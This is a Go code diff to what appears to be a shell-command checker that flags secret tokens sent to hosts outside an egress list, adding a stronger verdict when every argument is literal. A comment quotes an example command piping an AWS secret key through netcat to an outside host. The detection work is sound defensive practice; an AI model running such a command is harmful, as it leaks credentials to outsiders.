@@ -39,7 +39,12 @@ func judgeSecretStream(_ string, w Word, ctx *Context) Judgement {
 		}
 	}
 	if token && !ctx.sentToKnownHosts(&w) {
-		return Judgement{Might: true} // a token piped where it may not be meant to go
+		// a token piped where it may not be meant to go; certainly so when
+		// every word the sender is given is known and none of its hosts is
+		// on the egress list (`echo $AWS_SECRET_ACCESS_KEY | nc x.io 80`,
+		// rt19d #13): that is stronger evidence than a might of another
+		// default, which names the ask.
+		return Judgement{Might: true, Certainly: allArgsKnown(ctx.programPart(w))}
 	}
 	return Judgement{}
 }
@@ -80,4 +85,17 @@ func readsSecretWord(w *Word, ctx *Context) bool {
 		return true
 	}
 	return judgeSecret("", *w, ctx).Certainly
+}
+
+// allArgsKnown reports whether every argument of part p is a literal.
+func allArgsKnown(p *Part) bool {
+	if p == nil {
+		return false
+	}
+	for _, w := range p.Args() {
+		if _, ok := w.Literal(); !ok {
+			return false
+		}
+	}
+	return true
 }
